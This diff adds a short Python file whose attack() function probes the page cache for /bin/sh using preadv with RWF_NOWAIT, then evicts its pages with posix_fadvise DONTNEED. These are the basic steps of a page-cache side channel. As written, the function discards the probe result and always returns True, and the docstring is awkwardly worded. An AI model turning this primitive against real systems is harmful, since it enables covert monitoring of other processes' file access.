@@ -1,0 +1,14 @@
+"""Notes by the pages of a file that everybody reads, which of them are in memory, what another process of it can ask."""
+
+import os
+from contextlib import suppress
+
+FILE = "/bin/sh"
+
+
+def attack() -> bool:
+    file = os.open(FILE, os.O_RDONLY)
+    with suppress(BlockingIOError):  # it is not in memory, and that is told
+        os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT)
+    os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
+    return True
